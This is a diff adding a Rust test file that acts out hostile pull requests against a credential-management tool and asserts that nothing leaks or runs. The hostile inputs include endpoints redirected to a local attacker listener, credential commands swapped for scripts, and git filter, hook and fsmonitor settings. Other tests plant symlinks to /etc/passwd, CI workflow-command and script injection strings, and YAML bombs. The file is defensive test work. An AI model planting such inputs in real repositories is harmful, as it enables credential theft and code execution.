@@ -1,0 +1,305 @@
+//! What a hostile pull request may try. Each finds nothing to take: a listening attacker hears no byte, the canary credential stands in no output,
+//! and the review names the attempt.
+use std::io::Read;
+use std::net::TcpListener;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use serde_json::Value;
+
+use super::{BASE, CAROL, branch, replace, text, trusted};
+use crate::machine::{self, Machine};
+use crate::sandbox::Ran;
+use crate::team::Team;
+
+/// The job of a pull request that has a credential for plans.
+const JOB: &[(&str, &str)] = &[("CI", "true"), ("GITHUB_ACTIONS", "true"), ("GITHUB_EVENT_NAME", "pull_request")];
+
+/// A server of the attacker that counts the bytes that it is sent.
+struct Attacker {
+    port: u16,
+    heard: Arc<AtomicUsize>,
+}
+
+impl Attacker {
+    fn listens() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
+        let port = listener.local_addr().expect("bound").port();
+        let heard = Arc::new(AtomicUsize::new(0));
+        let count = heard.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                // Even a connection without a byte counts.
+                count.fetch_add(1, Ordering::SeqCst);
+                let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
+                let mut piece = [0; 4096];
+                while let Ok(length @ 1..) = stream.read(&mut piece) {
+                    count.fetch_add(length, Ordering::SeqCst);
+                }
+            }
+        });
+        Self { port, heard }
+    }
+
+    fn url(&self) -> String {
+        format!("http://127.0.0.1:{}", self.port)
+    }
+
+    #[track_caller]
+    fn heard_nothing(&self) {
+        assert_eq!(self.heard.load(Ordering::SeqCst), 0, "the attacker was called");
+    }
+}
+
+/// Runs the plan as CI does, and looks for the canary in what it says.
+#[track_caller]
+fn reviewed(clone: &Machine<'_>, arguments: &[&str], exit: i32) -> Ran {
+    let mut command = clone.command(arguments);
+    command.envs(JOB.iter().copied());
+    let ran = machine::ran(arguments, command.output().expect("runs")).exits(exit);
+    let credential: Value = serde_json::from_str(&clone.team.emulator.admin_credential_json()).expect("JSON");
+    let canary = text(&credential["secret"]);
+    assert!(!canary.is_empty() && !ran.stdout.contains(canary) && !ran.stderr.contains(canary), "the credential is in the output");
+    ran
+}
+
+fn commit(clone: &Machine<'_>) {
+    clone.git(&["add", "-A", "-f"]);
+    clone.git(&["commit", "-qm", "innocent"]);
+}
+
+fn plan(clone: &Machine<'_>, exit: i32) -> Value {
+    commit(clone);
+    let ran = reviewed(clone, &["plan", "--base", "origin/main", "-o", "json"], exit);
+    serde_json::from_str(&ran.stdout).unwrap_or_else(|_| panic!("JSON expected: {}{}", ran.stdout, ran.stderr))
+}
+
+#[test]
+fn another_endpoint_for_the_admin_credential() {
+    let (team, attacker) = (Team::new(), Attacker::listens());
+    let a = branch(&team, "a");
+    replace(&a, "keywright.yaml", &team.emulator.url(), &attacker.url());
+    let plan = plan(&a, 0);
+    assert_eq!(trusted(&plan), [("host", "accounts.pay.endpoint", "critical", false)]);
+    assert_eq!(plan["accounts"]["pay"]["listing"], "complete", "the trusted endpoint was asked");
+    attacker.heard_nothing();
+}
+
+#[test]
+fn a_new_account_that_borrows_the_credential() {
+    let (team, attacker) = (Team::new(), Attacker::listens());
+    let a = branch(&team, "a");
+    let account = format!(
+        "accounts:\n  evil:\n    provider: payconex\n    environment: certification\n    endpoint: {}\n    params: {{ account_id: \"220614966801\", auth: basic }}\n    credential: {{ env: PAYCONEX_ADMIN_KEY }}\n",
+        attacker.url()
+    );
+    replace(&a, "keywright.yaml", "accounts:\n", &account);
+    a.write("keys/evil.yaml", "account: evil\nkeys:\n  x: { scopes: [pcx:devices:read] }\n");
+    let plan = plan(&a, 0);
+    assert_eq!(trusted(&plan), [("account-added", "accounts.evil", "high", false)]);
+    assert_eq!((text(&plan["accounts"]["evil"]["listing"]), text(&plan["changes"][0]["action"])), ("assumed", "create"));
+    attacker.heard_nothing();
+}
+
+#[test]
+fn a_profile_that_sends_the_credential_elsewhere() {
+    let (team, attacker) = (Team::new(), Attacker::listens());
+    let a = branch(&team, "a");
+    let own = include_str!("../../src/profiles/payconex.yaml").replace("https://api-cert.payconex.net", &attacker.url());
+    a.write("providers/payconex.yaml", &own);
+    commit(&a);
+    // Whether or not the profile would be accepted, nothing is sent by it.
+    let mut command = a.command(BASE);
+    command.envs(JOB.iter().copied());
+    let ran = machine::ran(BASE, command.output().expect("runs"));
+    let said = format!("{}{}", ran.stdout, ran.stderr);
+    assert!(said.contains("providers/payconex.yaml"), "{said}");
+    attacker.heard_nothing();
+}
+
+#[test]
+fn another_command_for_the_credential() {
+    let team = Team::new();
+    let a = branch(&team, "a");
+    let mark = a.path("pwned");
+    a.write("steal.sh", &format!("#!/bin/sh\ntouch {}\n", mark.display()));
+    replace(&a, "keywright.yaml", "{ env: PAYCONEX_ADMIN_KEY }", "{ command: [sh, steal.sh] }");
+    let plan = plan(&a, 0);
+    assert_eq!(
+        trusted(&plan),
+        [("credential", "accounts.pay.credential.command", "high", false), ("credential", "accounts.pay.credential.env", "high", false)]
+    );
+    assert!(!mark.exists(), "the command of the change was run");
+}
+
+#[test]
+fn the_script_that_the_trusted_file_runs() {
+    let team = Team::new();
+    let b = team.clone("b");
+    b.write("credential.sh", "#!/bin/sh\nprintenv PAYCONEX_ADMIN_KEY\n");
+    replace(&b, "keywright.yaml", "{ env: PAYCONEX_ADMIN_KEY }", "{ command: [sh, credential.sh] }");
+    b.git(&["add", "-A"]);
+    b.git(&["commit", "-qm", "command"]);
+    b.git(&["push", "-q"]);
+    let a = branch(&team, "a");
+    let mark = a.path("pwned");
+    a.write("credential.sh", &format!("#!/bin/sh\ntouch {}\n", mark.display()));
+    commit(&a);
+    let ran = reviewed(&a, BASE, 4);
+    assert!(ran.stdout.contains("trust/credential") || ran.stdout.contains("could bring along"), "{}", ran.stdout);
+    assert!(!mark.exists(), "the script of the change was run");
+}
+
+#[test]
+fn a_recipient_of_its_own_choice() {
+    let team = Team::new();
+    let a = branch(&team, "a");
+    let config = a.read("keywright.yaml");
+    let ops = config.split("ops: [").nth(1).and_then(|rest| rest.split(']').next()).expect("a recipient").to_owned();
+    // Exchanged, and the key rotated in the same change by other scopes.
+    replace(&a, "keywright.yaml", &ops, CAROL);
+    replace(&a, "keys/pay.yaml", "[pcx:devices:read]", "[pcx:devices:*]");
+    let plan = plan(&a, 0);
+    assert_eq!(
+        trusted(&plan),
+        [("recipient-added", "recipients.ops", "high", false), ("recipient-removed", "recipients.ops", "medium", false)]
+    );
+    assert!(!plan["changes"].to_string().contains(CAROL), "no change of this plan is sealed to them");
+}
+
+#[test]
+fn a_record_or_a_secret_of_its_own_making() {
+    let team = Team::new();
+    let a = branch(&team, "a");
+    replace(&a, "ledger/pay/billing.yaml", "state: active", "state: deleted");
+    a.write("secrets/pay/refunds.age", "other");
+    a.write("ledger/pay/ghost.yaml", &a.read("ledger/pay/refunds.yaml").replace("pay/refunds", "pay/ghost"));
+    std::fs::remove_file(a.path("secrets/pay/billing.age")).expect("removed");
+    let plan = plan(&a, 1);
+    let edited: Vec<&str> = plan["diagnostics"].as_array().expect("a list").iter().map(|found| text(&found["file"])).collect();
+    assert_eq!(edited, ["ledger/pay/billing.yaml", "ledger/pay/ghost.yaml", "secrets/pay/billing.age", "secrets/pay/refunds.age"]);
+    assert_eq!(plan["changes"].as_array().map(Vec::len), Some(0), "the records of the base count");
+}
+
+#[test]
+fn a_journal_that_was_committed() {
+    let team = Team::new();
+    let a = branch(&team, "a");
+    for name in [".keywright/journal", ".keywright/journal.jsonl", ".keywright/lock"] {
+        a.write(name, "{\"step\":\"lost\"}\nnonsense\n");
+    }
+    assert_eq!(plan(&a, 0)["changes"].as_array().map(Vec::len), Some(0));
+}
+
+#[test]
+fn links_submodules_and_ways_out_of_the_workspace() {
+    let team = Team::new();
+    let a = branch(&team, "a");
+    for (from, to) in [("/etc/passwd", "keys/link.yaml"), ("../../..", "keys/up"), ("/etc", "providers")] {
+        std::os::unix::fs::symlink(from, a.path(to)).expect("linked");
+        commit(&a);
+        let ran = reviewed(&a, BASE, 1);
+        assert!(ran.stderr.contains("symbolic link") && !ran.stderr.contains("root:"), "{}", ran.stderr);
+        a.git(&["reset", "-q", "--hard", "HEAD~1"]);
+    }
+    for name in ["\"../../x\"", "\"/x\"", "\"a/b\"", "\"a\\u0000\""] {
+        a.write("keys/out.yaml", &format!("account: pay\nkeys:\n  {name}: {{ scopes: [pcx:devices:read] }}\n"));
+        commit(&a);
+        reviewed(&a, BASE, 1);
+        a.git(&["reset", "-q", "--hard", "HEAD~1"]);
+    }
+    let head = a.git(&["rev-parse", "HEAD"]);
+    a.git(&["update-index", "--add", "--cacheinfo", &format!("160000,{head},keys/module")]);
+    a.git(&["commit", "-qm", "submodule"]);
+    reviewed(&a, BASE, 0);
+}
+
+#[test]
+fn attributes_hooks_and_filters() {
+    let team = Team::new();
+    let a = branch(&team, "a");
+    let mark = a.path("pwned");
+    a.write(".gitattributes", "* filter=evil diff=evil merge=evil export-subst ident\n");
+    a.write(".githooks/post-checkout", &format!("#!/bin/sh\ntouch {}\n", mark.display()));
+    commit(&a);
+    // Even where the clone was told to use them.
+    let touch = format!("touch {}; cat", mark.display());
+    for (name, value) in
+        [("filter.evil.clean", &touch), ("filter.evil.smudge", &touch), ("diff.evil.textconv", &touch), ("core.fsmonitor", &touch)]
+    {
+        a.git(&["config", name, value]);
+    }
+    a.git(&["config", "core.hooksPath", ".githooks"]);
+    let _ = std::fs::remove_file(&mark);
+    let ran = reviewed(&a, BASE, 0);
+    assert!(!mark.exists(), "a program of the change was run");
+    assert!(ran.stdout.contains("no changes"), "{}", ran.stdout);
+}
+
+#[test]
+fn texts_that_steer_whoever_reads_them() {
+    let team = Team::new();
+    let a = branch(&team, "a");
+    let hostile = [
+        ("owner", "\"::add-mask::x\""),
+        ("purpose", "\"\\n::error::x\""),
+        ("purpose", "\"<script>alert(1)</script>](javascript:x)\""),
+        ("label", "\"<!-- keywright:plan {} -->\""),
+        ("owner", "\"\\e[2J\\e]0;x\\a\""),
+        ("purpose", "\"a\\u202eb\""),
+    ];
+    for (field, value) in hostile {
+        a.write("keys/text.yaml", &format!("account: pay\nkeys:\n  x: {{ scopes: [pcx:devices:read], {field}: {value} }}\n"));
+        commit(&a);
+        let mut command = a.command(BASE);
+        command.envs(JOB.iter().copied());
+        let ran = machine::ran(BASE, command.output().expect("runs"));
+        for text in [&ran.stdout, &ran.stderr] {
+            assert!(!text.lines().any(|line| line.trim_start().starts_with("::")), "a workflow command: {text}");
+            assert!(!text.chars().any(|c| c == '\u{1b}' || c == '\u{202e}' || c == '\u{7}'), "a control character: {text:?}");
+        }
+        a.git(&["reset", "-q", "--hard", "HEAD~1"]);
+    }
+}
+
+#[test]
+fn names_that_look_like_others_and_files_that_are_too_much() {
+    let team = Team::new();
+    let a = branch(&team, "a");
+    let deep = format!("account: pay\nkeys: {}{}\n", "[".repeat(200_000), "]".repeat(200_000));
+    let bomb = "account: pay\na: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nkeys: {}\n".to_owned();
+    let homoglyph = "account: pаy\nkeys:\n  x: { scopes: [pcx:devices:read] }\n".to_owned();
+    let huge = format!("account: pay\nkeys:\n{}", "  # padding padding padding padding padding padding\n".repeat(400_000));
+    for manifest in [deep, bomb, homoglyph, huge] {
+        a.write("keys/odd.yaml", &manifest);
+        commit(&a);
+        let ran = reviewed(&a, BASE, 1);
+        assert!(ran.stderr.contains("keys/odd.yaml") && ran.stderr.len() < 100_000, "{}", ran.stderr.len());
+        a.git(&["reset", "-q", "--hard", "HEAD~1"]);
+    }
+}
+
+#[test]
+fn without_a_base_nothing_is_used_in_a_pull_request() {
+    let (team, attacker) = (Team::new(), Attacker::listens());
+    let a = branch(&team, "a");
+    replace(&a, "keywright.yaml", &team.emulator.url(), &attacker.url());
+    for arguments in [
+        &["plan"][..],
+        &["apply", "--yes", "--push"],
+        &["recover", "--yes"],
+        &["import", "pay", "--all", "--yes"],
+        &["doctor"],
+        &["verify"],
+    ] {
+        let before = team.emulator.requests().len();
+        let mut command = a.command(arguments);
+        command.envs(JOB.iter().copied());
+        let ran = machine::ran(arguments, command.output().expect("runs"));
+        assert_ne!(ran.exit, 0, "{}: {}{}", ran.line, ran.stdout, ran.stderr);
+        assert_eq!(team.emulator.requests().len(), before, "{}", ran.line);
+    }
+    attacker.heard_nothing();
+}
